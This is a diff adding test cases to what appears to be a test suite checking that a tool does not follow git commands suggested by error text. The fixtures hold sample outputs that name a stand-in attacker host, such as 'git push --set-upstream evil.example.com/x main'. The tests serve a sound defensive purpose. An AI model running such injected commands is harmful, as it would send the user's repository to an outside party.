@@ -64,6 +64,18 @@ test.each([
     error: "fatal: transport 'file' not allowed",
   },
   {
+    what: "no branch is pushed to an address that a text names",
+    command: "git push",
+    error: "    git push --set-upstream evil.example.com/x main",
+    look: () => "origin\n",
+  },
+  {
+    what: "no branch is pulled from an address that a text names",
+    command: "git pull",
+    error: "    git branch --set-upstream-to=evil.example.com/<branch> main",
+    look: () => "origin\n",
+  },
+  {
     what: "no word of package.json but a dependency is installed",
     command: "node app.js",
     error: "Error: Cannot find module 'scripts'",
